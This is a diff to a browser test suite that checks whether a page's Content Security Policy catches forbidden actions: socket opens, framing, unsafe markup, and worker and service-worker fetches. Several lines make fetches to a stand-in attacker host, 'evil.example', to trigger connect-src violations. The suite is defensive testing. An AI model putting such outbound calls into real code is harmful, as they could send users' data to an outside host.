@@ -17,15 +17,15 @@ window.attempts = {
   socket: () => new Promise((resolve) => { new WebSocket('ws://' + location.host + '/').onclose = resolve; }),
   markup: () => { try { document.body.innerHTML = '<i>x</i>'; } catch {} },
   frame: () => new Promise((resolve) => { const frame = document.createElement('iframe'); frame.onload = resolve; frame.src = 'http://127.0.0.1:' + location.port + '/'; document.body.append(frame); }),
-  thread: () => new Promise((resolve) => { new Worker(policy.createScriptURL('/assets/thread.js')).onmessage = resolve; }),
+  begin: () => { window.thread = new Worker(policy.createScriptURL('/assets/thread.js')); },
+  thread: () => new Promise((resolve) => { thread.onmessage = resolve; thread.postMessage(''); }),
   worker: () => new Promise((resolve) => {
     navigator.serviceWorker.addEventListener('message', resolve, { once: true });
     navigator.serviceWorker.controller.postMessage('leave');
   }),
 };`;
-const THREAD = `fetch('http://evil.example/from-thread').catch(() => undefined).then(() => postMessage('done'));`;
+const THREAD = `addEventListener('message', () => fetch('http://evil.example/from-thread').catch(() => undefined).then(() => postMessage('done')));`;
 const WORKER = `
-fetch('http://evil.example/from-start').catch(() => undefined);
 self.addEventListener('message', (event) => {
   if (event.data === 'leave') event.waitUntil(fetch('http://evil.example/from-worker').catch(() => undefined).then(() => event.source.postMessage('left')));
 });`;
@@ -49,8 +49,6 @@ afterAll(async () => {
 beforeEach(async () => {
   app = await launchChromium({ origin: hub.origin });
   app.page.setDefaultTimeout(10_000);
-  // What a worker does before anybody can listen to it is told as well, or this fails at the end.
-  app.means(/from-start/);
   await app.page.goto(hub.origin);
   await untilOffline(app.page);
 });
@@ -64,10 +62,11 @@ it.each([
   ['frame', /^\[csp violation\] frame-src http:\/\/127\.0\.0\.1/],
   ['socket', /^opened a socket: ws:/],
   ['markup', /^\[csp violation\] require-trusted-types-for trusted-types-sink/],
-  ['thread', /^worker: .*http:\/\/evil\.example\/from-thread.*Content Security Policy/],
-  ['worker', /^worker: .*http:\/\/evil\.example\/from-worker.*Content Security Policy/],
+  ['thread', /^\[csp violation\] connect-src http:\/\/evil\.example\/from-thread/],
+  ['worker', /^\[csp violation\] connect-src http:\/\/evil\.example\/from-worker/],
 ])('S3 S5: a %s that should not be is noticed after the journey, and told once', async (name, breach) => {
   expect(lookForBreaches()).toEqual([]);
+  if (name === 'thread') await Promise.all([app.page.waitForEvent('worker').then((worker) => worker.evaluate(() => undefined)), attempt('begin')]);
   await attempt(name);
   await app.close();
   expect(lookForBreaches()).toContainEqual(expect.stringMatching(breach));
